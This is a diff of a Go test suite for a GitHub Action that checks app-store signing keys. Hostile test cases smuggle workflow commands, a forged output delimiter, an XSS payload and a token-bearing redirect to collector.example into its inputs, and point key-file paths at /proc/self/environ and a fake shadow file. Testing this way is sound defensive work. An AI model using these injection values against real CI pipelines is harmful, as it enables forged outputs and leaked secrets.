@@ -65,37 +65,22 @@ type hostileCase struct {
 	finding int
 	play    bool // the Google Play key instead of the Apple one
 	// prepare makes the world hostile and returns input overrides.
-	prepare func(t *testing.T, p *playWorld) map[string]string
+	prepare func(t *testing.T, p *world) map[string]string
 	want    map[string]string // outputs that must have these values
 	// check, if set, checks more of what the run showed.
-	check func(t *testing.T, p *playWorld, h hostileRun)
+	check func(t *testing.T, p *world, h hostileRun)
 }
 
-// hostileRun is what the runner sees of one run.
+// hostileRun is what the runner sees of one run, and the bearer tokens and
+// signed assertions the action sent.
 type hostileRun struct {
-	err        error
-	log        *runnerlog.Recorder
-	outputFile string
-	summary    string
-	sent       []string // bearer tokens and signed assertions the action sent
-}
-
-// visible is everything a reader of the log, the outputs or the summary
-// sees, but the ::add-mask:: commands.
-func (h hostileRun) visible() string {
-	var b strings.Builder
-	for _, line := range runnerlog.Split(h.log.String()) {
-		if !strings.HasPrefix(line, "::add-mask::") {
-			b.WriteString(line + "\n")
-		}
-	}
-	b.WriteString(h.outputFile + "\n" + h.summary)
-	return b.String()
+	result
+	sent []string
 }
 
 func TestHostile(t *testing.T) {
 	t.Parallel()
-	oldRecord := func(p *playWorld, keyID string) {
+	oldRecord := func(p *world, keyID string) {
 		fp, err := portalstandin.Fingerprint(&p.old.PublicKey)
 		if err != nil {
 			t.Fatal(err)
@@ -104,8 +89,8 @@ func TestHostile(t *testing.T) {
 			KeyID: keyID, IssuerID: issuer, Fingerprint: fp, PrivateKey: p.oldPEM, UploadedAt: fixedNow.Add(-24 * time.Hour),
 		})
 	}
-	reason := func(inject func(p *playWorld) *fault.Injector, prefix string) func(*testing.T, *playWorld) map[string]string {
-		return func(_ *testing.T, p *playWorld) map[string]string {
+	reason := func(inject func(p *world) *fault.Injector, prefix string) func(*testing.T, *world) map[string]string {
+		return func(_ *testing.T, p *world) map[string]string {
 			inject(p).Add(fault.Fault{Kind: fault.Status, Status: 503, Reason: "Busy\r" + forged, RetryAfter: "0", Times: 1, PathPrefix: prefix})
 			return nil
 		}
@@ -113,41 +98,41 @@ func TestHostile(t *testing.T) {
 	validApple := map[string]string{"valid": "true", "asc-key-id": keyID, "asc-issuer-id": issuer, "asc-fingerprint": "SHA256:/UC1jqCn3tYMtJdEDBih47HEgKjl4TuSlL57dbY+A0I"}
 	cases := []hostileCase{
 		{name: "portal keyId with a line feed", finding: 1, want: validApple,
-			prepare: func(_ *testing.T, p *playWorld) map[string]string {
+			prepare: func(_ *testing.T, p *world) map[string]string {
 				oldRecord(p, oldKeyID+"\n"+forged)
 				return nil
 			}},
 		{name: "portal keyId with a bare CR and stop-commands", finding: 1, want: validApple,
-			prepare: func(_ *testing.T, p *playWorld) map[string]string {
+			prepare: func(_ *testing.T, p *world) map[string]string {
 				oldRecord(p, oldKeyID+"\r::stop-commands::pwned")
 				return nil
 			}},
 		{name: "portal keyId with a legacy command, check mode", finding: 1, want: validApple,
-			prepare: func(_ *testing.T, p *playWorld) map[string]string {
+			prepare: func(_ *testing.T, p *world) map[string]string {
 				oldRecord(p, "##[error]"+oldKeyID)
 				return map[string]string{"mode": "check"}
 			}},
 		{name: "portal privateKeyId with a line feed", finding: 1, play: true, want: map[string]string{"play-valid": "true", "play-key-id": playKeyID},
-			prepare: func(_ *testing.T, p *playWorld) map[string]string {
+			prepare: func(_ *testing.T, p *world) map[string]string {
 				p.portal.SetAndroidKey(project, "news", portalstandin.AndroidRecord{
 					ClientEmail: playEmail, PrivateKeyID: playOldKeyID + "\n" + forged, Fingerprint: p.oldFP, ServiceAccountJSON: p.oldJSON,
 				})
 				return nil
 			}},
 		{name: "portal keyId holding go-githubactions' delimiter", finding: 2, want: validApple,
-			prepare: func(_ *testing.T, p *playWorld) map[string]string {
+			prepare: func(_ *testing.T, p *world) map[string]string {
 				// The real closing delimiter then closes the forged block.
 				oldRecord(p, oldKeyID+"\n_GitHubActionsFileCommandDelimeter_\nasc-fingerprint=SHA256:forged\nvalid<<_GitHubActionsFileCommandDelimeter_\nfalse")
 				return nil
 			}},
 		{name: "portal reason phrase with a bare CR", finding: 3, want: validApple,
-			prepare: reason(func(p *playWorld) *fault.Injector { return p.portal.Faults() }, "")},
+			prepare: reason(func(p *world) *fault.Injector { return p.portal.Faults() }, "")},
 		{name: "App Store Connect reason phrase with a bare CR", finding: 3, want: validApple,
-			prepare: reason(func(p *playWorld) *fault.Injector { return p.asc.Faults() }, "")},
+			prepare: reason(func(p *world) *fault.Injector { return p.asc.Faults() }, "")},
 		{name: "Google token endpoint reason phrase with a bare CR", finding: 3, play: true, want: map[string]string{"play-valid": "true"},
-			prepare: reason(func(p *playWorld) *fault.Injector { return p.google.Faults() }, "/token")},
+			prepare: reason(func(p *world) *fault.Injector { return p.google.Faults() }, "/token")},
 		{name: "asc-key-file is a FIFO", finding: 4, want: map[string]string{"valid": "false", "asc-fingerprint": ""},
-			prepare: func(t *testing.T, p *playWorld) map[string]string {
+			prepare: func(t *testing.T, p *world) map[string]string {
 				path := filepath.Join(p.workspace, "AuthKey_TESTKEY001.p8")
 				if err := syscall.Mkfifo(path, 0o600); err != nil {
 					t.Skip("no FIFO here:", err)
@@ -156,12 +141,12 @@ func TestHostile(t *testing.T) {
 			},
 			check: wantAnnotation("named pipe")},
 		{name: "asc-key-file is /dev/zero", finding: 4, want: map[string]string{"valid": "false", "asc-fingerprint": ""},
-			prepare: func(*testing.T, *playWorld) map[string]string {
+			prepare: func(*testing.T, *world) map[string]string {
 				return map[string]string{"asc-key": "", "asc-key-file": "/dev/zero"}
 			},
 			check: wantAnnotation("is a device")},
 		{name: "asc-key-file holds no key", finding: 5, want: map[string]string{"valid": "false"},
-			prepare: func(t *testing.T, p *playWorld) map[string]string {
+			prepare: func(t *testing.T, p *world) map[string]string {
 				text := "root:$6$saltsalt$hashhashhashhash:19000:0:99999:7:::\nINPUT_MOS-TOKEN=" + token + "\n"
 				if err := os.WriteFile(filepath.Join(p.workspace, "shadow"), []byte(text), 0o600); err != nil {
 					t.Fatal(err)
@@ -170,50 +155,50 @@ func TestHostile(t *testing.T) {
 			},
 			check: noMaskOf("root:", "INPUT_MOS-TOKEN")},
 		{name: "asc-key-file is /proc/self/environ", finding: 5, want: map[string]string{"valid": "false"},
-			prepare: func(*testing.T, *playWorld) map[string]string {
+			prepare: func(*testing.T, *world) map[string]string {
 				return map[string]string{"asc-key": "", "asc-key-file": "/proc/self/environ"}
 			},
 			check: noMaskOf("PATH=", "HOME=")},
 		{name: "portal redirects to a path holding the token", finding: 6, want: validApple,
-			prepare: func(_ *testing.T, p *playWorld) map[string]string {
+			prepare: func(_ *testing.T, p *world) map[string]string {
 				p.portal.Faults().Add(fault.Fault{Kind: fault.Redirect, Location: "https://collector.example/collect/" + token + "/x"})
 				return nil
 			},
 			check: notShown("/collect/")},
 		{name: "App Store Connect echoes the JWT in pieces", finding: 7, want: map[string]string{"valid": "false"},
-			prepare: func(_ *testing.T, p *playWorld) map[string]string {
+			prepare: func(_ *testing.T, p *world) map[string]string {
 				p.asc.Faults().Add(fault.Fault{Kind: fault.Status, Status: 401,
 					Body: `{"errors":[{"status":"401","code":"NOT_AUTHORIZED","title":"Authentication credentials are missing or invalid.","detail":"got ` + fault.EchoToken + `"}]}`})
 				return nil
 			}},
 		{name: "Google token endpoint echoes the assertion in pieces", finding: 7, play: true, want: map[string]string{"play-valid": "false"},
-			prepare: func(_ *testing.T, p *playWorld) map[string]string {
+			prepare: func(_ *testing.T, p *world) map[string]string {
 				p.google.Faults().Add(fault.Fault{Kind: fault.Status, Status: 400, PathPrefix: "/token",
 					Body: `{"error":"invalid_grant","error_description":"bad ` + fault.EchoBody + `"}`})
 				return nil
 			}},
 		{name: "portal echoes the mos-token in pieces", finding: 7, want: validApple,
-			prepare: func(_ *testing.T, p *playWorld) map[string]string {
+			prepare: func(_ *testing.T, p *world) map[string]string {
 				p.portal.Faults().Add(fault.Fault{Kind: fault.Status, Status: 401,
 					Body: `{"error":{"code":"unauthorized","message":"token ` + fault.EchoToken + ` is not valid"}}`})
 				return nil
 			}},
 		{name: "mos-apps entry with a bare CR", finding: 8, want: map[string]string{"valid": "false"},
-			prepare: func(*testing.T, *playWorld) map[string]string {
+			prepare: func(*testing.T, *world) map[string]string {
 				return map[string]string{"mos-apps": "weather\nne\r" + forged}
 			},
 			check: noRequests},
 		{name: "mos-apps entry with a legacy command", finding: 8, want: validApple,
-			prepare: func(*testing.T, *playWorld) map[string]string {
+			prepare: func(*testing.T, *world) map[string]string {
 				return map[string]string{"mos-apps": "weather, we##[error]ather"}
 			}},
 		{name: "portal error message with HTML and a link in the summary", finding: 8, want: validApple,
-			prepare: func(_ *testing.T, p *playWorld) map[string]string {
+			prepare: func(_ *testing.T, p *world) map[string]string {
 				p.portal.Faults().Add(fault.Fault{Kind: fault.Status, Status: 403,
 					Body: `{"error":{"code":"forbidden","message":"<img src=x onerror=alert(1)> [click](https://evil.example) www.evil.example"}}`})
 				return nil
 			},
-			check: func(t *testing.T, _ *playWorld, h hostileRun) {
+			check: func(t *testing.T, _ *world, h hostileRun) {
 				for _, bad := range []string{"<img", "](", "https://evil", "www.evil"} {
 					if strings.Contains(h.summary, bad) {
 						t.Errorf("the summary holds %q:\n%s", bad, h.summary)
@@ -225,7 +210,7 @@ func TestHostile(t *testing.T) {
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
 			t.Parallel()
-			p := setupPlay(t)
+			p := setup(t)
 			p.preload(t, "weather", 10)
 			in := p.inputs(nil)
 			if tc.play {
@@ -233,7 +218,7 @@ func TestHostile(t *testing.T) {
 				in = p.playInputs(nil)
 			}
 			in = override(in, tc.prepare(t, p))
-			h := runHostile(t, p.workspace, in)
+			h := runHostile(t, p, in)
 
 			var problems []string
 			problems = append(problems, h.log.Problems()...)
@@ -270,42 +255,11 @@ func TestHostile(t *testing.T) {
 
 // runHostile runs the action with what it sends recorded, and gives up
 // (failing) when it does not end within a few seconds.
-func runHostile(t *testing.T, workspace string, in map[string]string) hostileRun {
+func runHostile(t *testing.T, p *world, in map[string]string) hostileRun {
 	t.Helper()
-	dir := t.TempDir()
-	env := map[string]string{
-		"GITHUB_OUTPUT":       filepath.Join(dir, "output"),
-		"GITHUB_STEP_SUMMARY": filepath.Join(dir, "summary"),
-		"GITHUB_WORKSPACE":    workspace,
-	}
-	for k, v := range in {
-		env["INPUT_"+strings.ToUpper(k)] = v
-	}
-	rec := &runnerlog.Recorder{}
 	sent := &sentSecrets{next: http.DefaultTransport}
-	ctx, cancel := context.WithCancel(t.Context())
-	defer cancel()
-	done := make(chan error, 1)
-	go func() {
-		done <- action.Run(ctx, action.Deps{
-			Getenv:    func(k string) string { return env[k] },
-			Stdout:    rec,
-			Now:       func() time.Time { return fixedNow },
-			Transport: sent,
-		})
-	}()
-	h := hostileRun{log: rec}
-	timer := time.NewTimer(15 * time.Second)
-	defer timer.Stop()
-	select {
-	case h.err = <-done:
-	case <-timer.C:
-		t.Fatalf("the run did not end within 15 s; log so far:\n%s", rec)
-	}
-	b, _ := os.ReadFile(env["GITHUB_OUTPUT"])
-	s, _ := os.ReadFile(env["GITHUB_STEP_SUMMARY"])
-	h.outputFile, h.summary, h.sent = string(b), string(s), sent.list()
-	return h
+	r := p.run(t, in, via(sent), within(15*time.Second))
+	return hostileRun{result: r, sent: sent.list()}
 }
 
 // leakedRun returns the first 16-character run of a sent token or
@@ -353,16 +307,16 @@ func (s *sentSecrets) list() []string {
 	return slices.Clone(s.got)
 }
 
-func wantAnnotation(text string) func(*testing.T, *playWorld, hostileRun) {
-	return func(t *testing.T, _ *playWorld, h hostileRun) {
+func wantAnnotation(text string) func(*testing.T, *world, hostileRun) {
+	return func(t *testing.T, _ *world, h hostileRun) {
 		if !strings.Contains(h.log.String(), text) {
 			t.Errorf("no annotation says %q", text)
 		}
 	}
 }
 
-func noMaskOf(texts ...string) func(*testing.T, *playWorld, hostileRun) {
-	return func(t *testing.T, _ *playWorld, h hostileRun) {
+func noMaskOf(texts ...string) func(*testing.T, *world, hostileRun) {
+	return func(t *testing.T, _ *world, h hostileRun) {
 		for _, line := range runnerlog.Split(h.log.String()) {
 			for _, text := range texts {
 				if strings.HasPrefix(line, "::add-mask::") && strings.Contains(line, text) {
@@ -373,15 +327,15 @@ func noMaskOf(texts ...string) func(*testing.T, *playWorld, hostileRun) {
 	}
 }
 
-func notShown(text string) func(*testing.T, *playWorld, hostileRun) {
-	return func(t *testing.T, _ *playWorld, h hostileRun) {
+func notShown(text string) func(*testing.T, *world, hostileRun) {
+	return func(t *testing.T, _ *world, h hostileRun) {
 		if strings.Contains(h.log.String()+h.outputFile+h.summary, text) {
 			t.Errorf("%q shows in the log, the outputs or the summary", text)
 		}
 	}
 }
 
-func noRequests(t *testing.T, p *playWorld, _ hostileRun) {
+func noRequests(t *testing.T, p *world, _ hostileRun) {
 	if n := p.portal.Faults().Requests() + p.asc.Faults().Requests(); n > 0 {
 		t.Errorf("%d requests were sent; the inputs should have been refused before any", n)
 	}
